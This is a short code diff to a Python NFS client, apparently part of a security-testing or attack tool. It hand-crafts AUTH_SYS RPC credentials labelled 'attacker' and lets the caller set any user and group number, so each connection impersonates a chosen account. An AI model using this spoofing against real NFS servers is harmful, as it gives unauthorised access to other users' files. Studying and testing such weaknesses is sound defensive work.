@@ -59,9 +59,10 @@ class Found:
 
 
 class NfsClient:
-    """One connection of user 0, from an address of this machine."""
+    """One connection of an `account` (its number), from an address of this machine."""
 
-    def __init__(self, server: str, source: str, minor: int) -> None:
+    def __init__(self, server: str, source: str, minor: int, account: int = 0) -> None:
+        self._account = account
         self._socket = socket.create_connection((server, 2049), 30, (source, 0))
         self._minor = minor
         self._xids = itertools.count(1)
@@ -75,7 +76,8 @@ class NfsClient:
         self._socket.close()
 
     def _call(self, operations: list[bytes]) -> _Reader:
-        sys = struct.pack(">I", 0) + _opaque(b"attacker") + struct.pack(">III", 0, 0, 0)
+        account = struct.pack(">III", self._account, self._account, 0)
+        sys = struct.pack(">I", 0) + _opaque(b"attacker") + account
         body = struct.pack(">IIIIII", next(self._xids), 0, 2, _PROGRAM, 4, _COMPOUND)
         body += struct.pack(">I", _AUTH_SYS) + _opaque(sys) + struct.pack(">II", 0, 0)
         body += _opaque(b"") + struct.pack(">II", self._minor, len(operations))
